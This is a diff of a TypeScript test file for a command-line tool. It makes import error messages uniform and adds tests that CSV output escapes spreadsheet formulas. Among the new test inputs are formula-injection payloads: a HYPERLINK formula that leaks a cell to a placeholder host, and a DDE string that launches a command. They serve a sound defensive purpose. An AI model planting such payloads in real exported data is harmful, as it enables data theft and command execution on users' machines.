@@ -174,7 +174,7 @@ describe('job commands on catalog rows', () => {
     expect((await cli('jobs', '--json', '--data-dir', dataDir)).out).toBe('[]\n')
   })
 
-  it('imports only finished result files, naming the path of anything else', async () => {
+  it('imports only result files, naming the path of anything else and writing nothing', async () => {
     const junk = join(root, 'junk.bin')
     await writeFile(junk, Buffer.alloc(4096, 7))
     const notResult = join(root, 'plain.sqlite')
@@ -185,8 +185,8 @@ describe('job commands on catalog rows', () => {
     for (const file of [junk, notResult, missing]) {
       const r = await cli('import', file, '--data-dir', dataDir)
       expect([file, r.code]).toEqual([file, 1])
-      expect(r.err).toContain('[storage/unreadable]')
-      expect(r.err).toContain(file)
+      // One message whatever the cause, so no answer tells whether a path exists.
+      expect(r.err).toBe(`mes-trace import: [import/invalid] ${file} cannot be imported: it is not an MES Trace result file, or it cannot be read.\n`)
     }
     expect(existsSync(join(dataDir, 'results'))).toBe(false)
   })
@@ -205,6 +205,17 @@ describe('CSV and table formatting', () => {
     expect(csvField(12.5)).toBe('12.5')
     expect(csvField(0)).toBe('0')
     expect(csvRecord(['a', null, 3, 'x,y'])).toBe('a,,3,"x,y"\r\n')
+  })
+
+  it('keeps text that a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1)')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1)"`)
+    expect(csvField('+cmd|" /C calc"!A0')).toBe(`"'+cmd|"" /C calc""!A0"`)
+    expect(csvField('-2+3')).toBe("'-2+3")
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
+    expect(csvField('\t=1')).toBe("'\t=1")
+    expect(csvField('\r=1')).toBe(`"'\r=1"`)
+    expect(csvField('a=b')).toBe('a=b')
+    expect(csvField(-5)).toBe('-5')
   })
 
   it('aligns tables by terminal width, wide characters counting double', () => {
